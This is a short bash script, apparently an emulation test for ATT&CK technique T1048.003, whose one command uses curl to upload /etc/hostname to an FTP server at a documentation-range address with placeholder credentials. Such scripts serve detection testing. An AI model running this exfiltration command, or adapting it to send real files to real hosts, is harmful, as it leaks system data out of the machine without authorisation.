#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol: done in another way than in tests/data/techniques, or there not at all.
curl -s -m 10 -T /etc/hostname ftp://203.0.113.51/in/ --user u:p; exit 0
